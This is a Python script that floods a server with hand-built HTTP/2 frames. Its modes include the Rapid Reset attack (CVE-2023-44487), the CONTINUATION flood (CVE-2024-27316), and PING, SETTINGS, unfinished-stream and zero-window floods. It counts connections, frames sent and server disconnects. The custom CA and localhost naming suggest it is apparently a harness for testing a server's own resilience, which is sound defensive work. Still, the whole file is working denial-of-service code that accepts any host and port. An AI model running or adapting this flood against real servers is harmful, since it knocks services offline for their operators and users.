"""h2_flood.py HOST PORT CA KIND SECONDS: floods a server over HTTP/2 and prints {"connections", "frames", "ended"} as JSON.

Frames are written raw (RFC 9113), because a library would not write these:
  reset         HEADERS and RST_STREAM at once, stream after stream (CVE-2023-44487)
  continuation  one HEADERS and CONTINUATION frames without end (CVE-2024-27316)
  ping          PING frames whose answers nobody reads
  settings      SETTINGS frames whose answers nobody reads
  headers       streams that are opened and never finished
  window        streams that ask for an answer and give no window for it
"ended" counts how often the server ended a connection; a new one is begun then.
"""
import json
import socket
import ssl
import struct
import sys
import time

host, port, ca, kind, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], float(sys.argv[5])
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    # HPACK, not indexed, both as plain text of less than 127 bytes (RFC 7541 6.2.2).
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request(authority):
    # :method GET, :scheme https, and a path that needs no token (RFC 7541 appendix A).
    return b"\x82\x87" + literal(b":path", b"/scim/v2/Schemas") + literal(b":authority", authority)


def pieces(authority):
    """Endless bytes of the flood, after the preface."""
    head, stream = request(authority), 1
    if kind == "continuation":
        yield frame(HEADERS, END_STREAM, 1, head)
        while True:
            yield b"".join(frame(CONTINUATION, 0, 1, literal(b"x-%06d" % number, b"y" * 100)) for number in range(100))
    while True:
        if kind == "reset":
            streams = range(stream, stream + 200, 2)
            error = struct.pack(">I", 8)
            yield b"".join(frame(HEADERS, END_STREAM | END_HEADERS, s, head) + frame(RST_STREAM, 0, s, error) for s in streams)
            stream += 200
        elif kind == "ping":
            yield frame(PING, 0, 0, b"12345678") * 100
        elif kind == "settings":
            yield frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 100
        elif kind == "headers":
            yield b"".join(frame(HEADERS, END_HEADERS, s, head) for s in range(stream, stream + 200, 2))
            stream += 200
        elif kind == "window":
            yield b"".join(frame(HEADERS, END_STREAM | END_HEADERS, s, head) for s in range(stream, stream + 200, 2))
            stream += 200
        else:
            sys.exit(f"no such flood: {kind}")


context = ssl.create_default_context(cafile=ca)
context.set_alpn_protocols(["h2"])
connections = frames = ended = 0
until = time.monotonic() + seconds
while time.monotonic() < until:
    try:
        plain = socket.create_connection((host, port), timeout=5)
        stream = context.wrap_socket(plain, server_hostname="localhost")
        if stream.selected_alpn_protocol() != "h2":
            sys.exit("the server speaks no HTTP/2")
        connections += 1
        settings = struct.pack(">HI", 4, 0) if kind == "window" else b""
        stream.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        stream.settimeout(1)
        for piece in pieces(b"localhost:%d" % port):
            if time.monotonic() >= until:
                break
            stream.sendall(piece)
            frames += 100
    except (OSError, ssl.SSLError):
        ended += 1
        time.sleep(0.01)
print(json.dumps({"connections": connections, "frames": frames, "ended": ended}))
